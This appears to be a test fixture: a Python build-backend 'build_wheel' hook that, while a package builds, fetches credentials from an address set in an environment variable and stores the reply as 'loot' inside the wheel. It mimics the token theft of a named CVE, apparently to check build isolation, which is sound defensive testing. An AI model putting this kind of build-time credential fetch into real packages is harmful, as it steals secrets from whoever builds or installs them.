"""Asks the address in a variable for credentials and keeps the answer.

No file and no metadata address is needed, only the variable. The payload of
CVE-2026-45321 was after tokens of this kind.
"""

import os
import urllib.request

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("fetch"):
        address = os.environ[kit.plant("address").name]
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        with opener.open(address, timeout=kit.seconds(3)) as answer:
            loot["data.bin"] = answer.read()
    return kit.wheel(wheel_directory, loot)
